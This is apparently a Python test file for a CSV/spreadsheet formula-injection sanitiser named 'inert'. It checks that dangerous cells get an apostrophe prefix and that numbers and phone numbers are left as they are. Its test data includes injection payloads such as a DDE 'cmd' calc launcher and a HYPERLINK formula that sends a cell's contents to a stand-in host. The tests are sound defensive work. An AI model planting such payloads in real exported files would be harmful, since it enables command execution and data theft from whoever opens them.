from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailsift.shared.formulas import FIRST, inert


@pytest.mark.parametrize(
    "cell",
    [
        *("=1+1", "+A1", "-A1", "+", "-", "--1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＠A1", "  =1", " -x"),
        *("=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1+1", "-5\n=1", "-5\n", "+49 30 123;=1", "-1E5+A1"),
        *('=HYPERLINK("https://x.example/?"&A1)', "@ann", "-ann@example.com", "+49 30 A1", "=", "@", "\t"),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_text(cell: str) -> None:
    assert inert(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell",
    [
        *("", " ", "ann@example.com", "a=b", "12", "'=1", '"=1"', "a\n=1"),
        *("-5", "+5", "-5.25", "-1,234.56", "-.5", "- 5", "-5%", "-5 %", "+1e5", "-1.5E-3"),
        *("+49 30 123", "+49 (0)30/123-45", "+1 (555) 123-4567", "+1.555.123.4567", "+1 555 123 x12", "+1 555 ext. 9"),
        *("＋49 30 123", " +49 30 123", "(030) 123"),
    ],
)
def test_numbers_telephone_numbers_and_any_other_cell_stay_as_they_are(cell: str) -> None:
    assert inert(cell) == cell


@given(st.text())
def test_a_cell_that_is_changed_begins_with_a_character_for_which_that_is_asked(cell: str) -> None:
    assert inert(cell) in {cell, f"'{cell}"}
    assert inert(cell) == cell or ord(cell[0]) in FIRST
